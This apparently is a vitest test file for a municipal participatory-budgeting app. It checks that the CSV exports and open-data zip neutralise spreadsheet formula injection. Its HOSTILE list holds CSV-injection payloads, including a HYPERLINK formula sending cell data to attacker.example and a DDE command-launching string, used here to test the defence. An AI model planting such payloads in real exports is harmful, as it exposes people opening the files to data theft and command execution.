import { describe, it, expect, beforeAll } from 'vitest';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { openDatabase, writeTx, type Db } from '../db/client';
import { municipalities, proposals, zones } from '../db/schema/index';
import { createAccount } from '../accounts';
import { computeResults, publishResults, publishedResult, proposalsCsv, resultsCsv } from './results';
import { roundOpenDataFiles } from './auditor-zip';
import { seedVotedRound, closeVoting } from '../../../../tests/support/results-seed';
import { csvCell, toCsv } from '../platform/csv';

const HOSTILE = [
	'=HYPERLINK("http://attacker.example/?x="&A1,"Ver detalle")',
	"+cmd|' /C calc'!A0",
	'-2+3',
	'\t=1+1',
	'=1\n+2 multi-line'
];

/** Every cell of every row (header included) of a CSV text. */
const cells = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, '')).data.flat();

let db: Db;
let municipalityId: number;
let roundId: number;

beforeAll(() => {
	process.env.MINKA_SECRET = 'test';
	db = openDatabase(join(mkdtempSync(join(tmpdir(), 'minka-csv-')), 't.db'));
	const base = writeTx(db, (tx) => {
		const m = tx
			.insert(municipalities)
			.values({
				slug: 'f',
				ubigeo: '080104',
				name: 'F',
				kind: 'distrital',
				department: 'Cusco',
				province: 'Cusco',
				createdAt: 0
			})
			.returning()
			.get();
		const z = tx
			.insert(zones)
			.values({ municipalityId: m.id, code: 'Z1', name: '@SUM(A1:A9)', createdAt: 0 })
			.returning()
			.get();
		const acc = createAccount(tx, m.id, {
			fullName: 'Edwin Ccorimanya',
			dni: '70000137',
			birthDate: '1980-01-01',
			email: 'edwin@example.pe',
			passwordHash: 'x',
			locale: 'es'
		});
		return { m, z, acc };
	});
	municipalityId = base.m.id;
	const seeded = seedVotedRound(db, { municipalityId, zoneId: base.z.id, authorPersonId: base.acc.person.id });
	roundId = seeded.round.id;
	Object.values(seeded.ids).forEach((id, i) =>
		db.update(proposals).set({ title: HOSTILE[i] }).where(eq(proposals.id, id)).run()
	);
	closeVoting(db, roundId);
	const official = {
		userId: base.acc.user.id,
		personId: base.acc.person.id,
		municipalityId,
		roles: new Set(['official'] as const),
		verified: true
	};
	computeResults(db, official, municipalityId, roundId);
	publishResults(db, official, municipalityId, roundId, 1);
});

describe('CSV exports neutralise formula cells (security review M3)', () => {
	it('no cell of results.csv, proposals.csv or any CSV of the open-data zip starts with = + - @ TAB or CR', () => {
		const pub = publishedResult(db, municipalityId, roundId)!;
		const zip = roundOpenDataFiles(db, { id: municipalityId, slug: 'f', ubigeo: '080104', name: 'F' }, roundId);
		const texts = [
			resultsCsv(pub.snapshot),
			proposalsCsv(db, municipalityId, roundId),
			...zip.filter((f) => f.name.endsWith('.csv')).map((f) => f.body)
		];
		expect(zip.filter((f) => f.name.endsWith('.csv')).length).toBeGreaterThanOrEqual(6);
		const all = texts.flatMap(cells);
		expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
		// The hostile titles are still there, readable, behind an apostrophe.
		expect(all).toContain(`'${HOSTILE[0]}`);
		expect(all).toContain(`'${HOSTILE[4]}`);
	});

	it('the writer keeps numbers, drops control characters, and quotes what needs quoting', () => {
		expect(csvCell(-5)).toBe(-5);
		expect(csvCell('a\u0000b\u001bc')).toBe('abc');
		expect(csvCell('\u0000=1')).toBe("'=1");
		expect(toCsv(['a', 'b'], [['x,y', null]], { newline: '\n' })).toBe('a,b\n"x,y",\n');
		expect(toCsv(['a'], [], { bom: true })).toBe('\uFEFFa\r\n');
	});
});
